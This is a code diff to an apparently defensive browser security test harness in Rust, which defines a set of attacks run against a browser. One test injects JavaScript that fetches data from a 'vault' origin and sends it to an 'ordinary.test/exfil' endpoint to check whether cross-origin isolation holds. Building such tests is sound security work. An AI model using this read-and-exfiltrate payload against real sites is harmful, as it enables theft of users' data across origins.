@@ -15,7 +15,7 @@ use serde_json::{json, Value};
 use slicc_browsers::harness::runner::Transport;
 
 use super::list::{b64encode, client_page, same_site_popup};
-use super::{sleep, Attack, Ctx, Res, Stop, EXTRA_ORIGIN, VAULT};
+use super::{on_site, sleep, Attack, Ctx, Res, Stop, EXTRA_ORIGIN, VAULT};
 
 /// Class 8's attacks, in run order.
 pub fn all() -> Vec<Attack> {
@@ -286,7 +286,7 @@ fn widget_frame_geolocation(ctx: &Ctx) -> Res {
     ctx.obs()
         .send(
             "Browser.grantPermissions",
-            json!({"origin": VAULT, "permissions": ["geolocation"]}),
+            json!({"origin": *VAULT, "permissions": ["geolocation"]}),
             None,
         )
         .map_err(|e| super::setup("the user's grant", e))?;
@@ -824,11 +824,11 @@ fn universal_access(ctx: &Ctx, origins: Value) -> Res {
         "document.readyState === 'complete' && location.host === 'ordinary.test'",
         10_000,
     )?;
-    let js = format!(
+    let js = on_site(&format!(
         "(async () => {{ let d = ''; try {{ d = await (await fetch('http://vault.sliccy.ai/anon?t={t}')).text(); }} catch (e) {{ d = 'E ' + e; }} \
          fetch('http://ordinary.test/exfil?t={t}&o=' + encodeURIComponent(location.origin) + '&d=' + encodeURIComponent(d), {{mode: 'no-cors'}}); return d; }})()",
         t = ctx.tag
-    );
+    ));
     let v = ctx.eval(&s, &js)?;
     ctx.exfiltrated(2000)
         .map_err(|_| Stop::Failed(format!("the page's fetch gave {v}")))
